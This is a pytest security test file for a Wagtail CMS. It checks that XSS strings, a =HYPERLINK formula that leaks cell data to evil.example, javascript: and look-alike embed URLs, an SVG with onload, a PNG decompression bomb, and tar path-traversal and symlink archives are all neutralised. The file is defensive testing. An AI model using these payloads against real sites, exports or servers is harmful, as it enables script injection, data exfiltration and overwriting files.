"""What somebody writes into a page, a picture's description, a table or a file stays words, whoever opens it and with what."""

import csv
import io
import json
import struct
import tarfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page

from cms.backup.archive import Damaged, unpack
from home.blocks.media import player_for
from home.desk.exports import BEGINNINGS
from home.images.containers import png_without_text
from home.models import CustomDocument, OrganisationSettings, User
from tests.files import a_picture
from tests.pages import SmallSite, block

pytestmark = pytest.mark.django_db

SCRIPT = '"><script>alert(1)</script><img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def chief(client: Client, small_site: SmallSite) -> User:
    """A superuser, logged in, who is called by a formula."""
    chief = User.objects.create_superuser("chief@example.org", first_name=FORMULA)
    client.force_login(chief)
    return chief


def runs_nothing(html: str) -> bool:
    page = BeautifulSoup(html, "html.parser")
    scripts = [script for script in page.find_all("script") if not str(script.get("type")).endswith("json")]
    return not scripts and not page.select("[onerror], [onmouseover]")


def test_description_of_a_picture_stays_text(client: Client, small_site: SmallSite) -> None:
    picture = small_site.image(alt=SCRIPT, credit=SCRIPT)
    OrganisationSettings.objects.create(site=small_site.site, name=SCRIPT, tagline=SCRIPT, share_image=picture)
    small_site.standard.body = [block("image", {"image": picture.pk, "caption": SCRIPT})]
    small_site.standard.save()
    html = client.get("/privacy/").content.decode()
    assert "og:image:alt" in html
    assert runs_nothing(html)


def test_table_is_words_and_nothing_else(client: Client, small_site: SmallSite) -> None:
    """Wagtail's editor for tables sends classes of cells along, which it once wrote into pages as they were."""
    cells = [{"row": 0, "col": 0, "className": f"x{SCRIPT}", "hidden": False}]
    table = {"data": [[SCRIPT, None]], "cell": cells, "mergeCells": cells, "table_caption": SCRIPT}
    small_site.standard.body = [block("table", table)]
    small_site.standard.save()
    (shown,) = client.get("/api/v1/resolve/?path=/privacy/").json()["page"]["body"]
    assert shown.keys() == {"type", "id", "caption", "header", "rows", "first_column_is_header"}
    assert (shown["rows"], shown["caption"]) == ([[SCRIPT, ""]], SCRIPT)
    assert runs_nothing(client.get("/privacy/").content.decode())


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)//www.youtube.com/watch?v=abcdefghijk",
        "data:text/html,<script>alert(1)</script>https://vimeo.com/1",
        "https://evil.example/https://www.youtube.com/watch?v=abcdefghijk",
        "https://www.youtube.com.evil.example/watch?v=abcdefghijk",
        "https://www.youtube.com@evil.example/watch?v=abcdefghijk",
        "//www.youtube.com/watch?v=abcdefghijk",
        "http://peer.example/w/abc",
    ],
)
def test_frame_is_for_known_players_alone(address: str) -> None:
    assert player_for(address)[1] is None


def cells_of(response: Any) -> list[str]:
    content = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_list_that_is_taken_away_holds_no_formula(
    client: Client, chief: User, small_site: SmallSite, beginning: str
) -> None:
    small_site.add_position(title=f"{beginning}1+1", slug="formula")
    cells = cells_of(client.get(reverse("wagtailadmin_explore", args=[small_site.positions.pk]), {"export": "csv"}))
    assert f"'{beginning}1+1" in cells
    assert not [cell for cell in cells if cell.startswith(BEGINNINGS)]


@pytest.mark.parametrize(
    "report",
    [
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:workflow",
        "wagtailadmin_reports:workflow_tasks",
        "wagtailredirects:index",
    ],
)
def test_report_that_is_taken_away_holds_no_formula(client: Client, chief: User, small_site: SmallSite, report: str) -> None:
    page = small_site.add_position(title=FORMULA, slug="formula")
    page.save_revision(user=chief, log_action=True).publish(user=chief)
    page.get_workflow().start(page, chief)
    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=chief)
    Redirect.objects.create(old_path="/old", redirect_link=FORMULA)
    cells = cells_of(client.get(reverse(report), {"export": "csv"}))
    assert [cell for cell in cells if cell.startswith("'=")]
    assert not [cell for cell in cells if cell.startswith(BEGINNINGS)]


@pytest.mark.parametrize("name", ["a.svg", "a.html", "a.xhtml", "a.zip", "a.exe", "a.png", "a.pdf.html"])
@pytest.mark.parametrize("view", ["wagtaildocs:add", "wagtaildocs:add_multiple"])
def test_document_of_another_kind_is_refused(client: Client, chief: User, view: str, name: str) -> None:
    file = SimpleUploadedFile(name, b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    client.post(reverse(view), {"title": "A file", "file": file, "files[]": file})
    assert not CustomDocument.objects.exists()


def test_text_of_a_picture_is_left_out_before_it_is_unpacked() -> None:
    picture = a_picture("stall.png").read()
    text = b"zTXtComment\0\0" + zlib.compress(bytes(16 * 1024**2))
    at = picture.index(b"IDAT") - 4
    chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    assert png_without_text(picture[:at] + chunk + picture[at:]) == picture


MANIFEST = json.dumps({"format": 1}).encode()


def archive(*members: tuple[tarfile.TarInfo, bytes]) -> io.BytesIO:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        for member, content in ((tarfile.TarInfo("manifest.json"), MANIFEST), *members):
            member.size = len(content)
            tar.addfile(member, io.BytesIO(content))
    packed.seek(0)
    return packed


def link_to(target: str) -> tarfile.TarInfo:
    member = tarfile.TarInfo("media/link")
    member.type, member.linkname = tarfile.SYMTYPE, target
    return member


@pytest.mark.parametrize("name", ["media/../../outside", "media/a/../../../outside"])
def test_backup_writes_nothing_outside_of_its_folder(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "inside"
    folder.mkdir()
    with pytest.raises(Damaged):
        unpack(archive((tarfile.TarInfo(name), b"x")), folder, lambda manifest: None)
    assert not (tmp_path / "outside").exists()


def test_backup_holds_no_links(tmp_path: Path) -> None:
    with pytest.raises(Damaged):
        unpack(archive((link_to("/etc"), b""), (tarfile.TarInfo("media/link/x"), b"x")), tmp_path, lambda manifest: None)
    assert not (tmp_path / "media" / "link").is_symlink()
